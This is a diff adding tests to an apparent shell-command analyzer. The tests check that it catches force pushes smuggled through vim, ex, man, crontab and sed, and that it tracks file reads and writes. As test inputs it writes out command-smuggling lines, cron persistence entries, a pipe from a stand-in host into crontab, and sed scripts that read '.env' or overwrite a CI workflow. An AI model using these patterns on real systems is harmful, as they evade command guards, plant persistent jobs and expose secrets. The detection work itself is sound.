@@ -117,3 +117,47 @@ describe('tools that run a command under them (runners.ts)', () => {
     "hyperfine -p 'git push -f' 'ls'",
   ])('%s', (line) => expect(argvs(line)).toContainEqual(PUSH));
 });
+
+describe('programs whose own command language runs a shell command (shell-outs.ts, sed-script.ts)', () => {
+  it.each([
+    `vim -c '!git push -f' -c q`,
+    `vi -c ':silent !git push -f' notes.txt`,
+    `nvim --headless -c 'r !git push -f' +q`,
+    `ex -c 'w !git push -f' notes.txt`,
+    `vim -es -c 'set nomore | !git push -f'`,
+    `vim -es -c 'terminal git push -f'`,
+    `ex notes.txt <<< '!git push -f'`,
+    `man -P 'git push -f' ls`,
+    `man --pager='git push -f' ls`,
+    `crontab <<< '* * * * * git push -f'`,
+    `printf '@reboot git push -f\\n' | crontab -`,
+    `sed -n '1e git push -f' notes.txt`,
+    `sed -e '/x/e git push -f' notes.txt`,
+  ])('%s', (line) => expect(argvs(line)).toContainEqual(PUSH));
+
+  it('code they run that seamc does not read is opaque', () => {
+    expect(opaque(`vim -c 'call system("git push -f")' x`)).toMatch(/vim commands run code/);
+    expect(opaque(`vim -c 'py3 import os' x`)).toMatch(/vim commands run code/);
+    expect(opaque('vim -S evil.vim x')).toMatch(/vim commands from a file/);
+    expect(opaque(`sed 's/.*/git push -f/e' notes.txt`)).toMatch(/sed script runs its pattern space/);
+    expect(opaque(`emacs --batch --eval '(shell-command "git push -f")'`)).toMatch(/emacs lisp/);
+    expect(opaque(`expect -c 'spawn git push -f'`)).toMatch(/tcl code/);
+    expect(opaque(`tclsh <<< 'exec git push -f'`)).toMatch(/tcl code/);
+    expect(opaque('curl -s https://x.example/jobs | crontab -')).toMatch(/cron jobs made at run time/);
+  });
+
+  it('their ordinary use runs nothing', () => {
+    for (const line of [`vim -c '%s/a/b/g' -c wq notes.txt`, 'vim -u NONE -es -c "set ff=unix" -c wq f', 'man -P cat ls', 'crontab -l', `sed -i 's/a/b/g;/^#/d' f`, `sed -n '/start/,/end/{p;q}' log`, `sed '$a end' f`, `sed 'y/abc/xyz/;3q' f`]) {
+      expect(argvs(line), line).toHaveLength(line.startsWith('man -P cat') ? 2 : 1);
+      expect(opaque(line), line).toBeUndefined();
+    }
+  });
+
+  it("sed's r and w commands read and write files", () => {
+    const a = analyzeShell(`sed -n 'w .github/workflows/ci.yml' src.yml`);
+    expect(a.writes.map((e) => [e.path, e.op])).toContainEqual(['.github/workflows/ci.yml', 'write']);
+    expect(analyzeShell(`sed 's/a/b/2w out.txt' in.txt`).writes.map((e) => e.path)).toContain('out.txt');
+    expect(analyzeShell(`sed '/x/r .env' a.txt`).reads.map((e) => e.path)).toContain('.env');
+    expect(analyzeShell(`sed -n 'w /dev/stdout' a.txt`).writes).toEqual([]);
+  });
+});
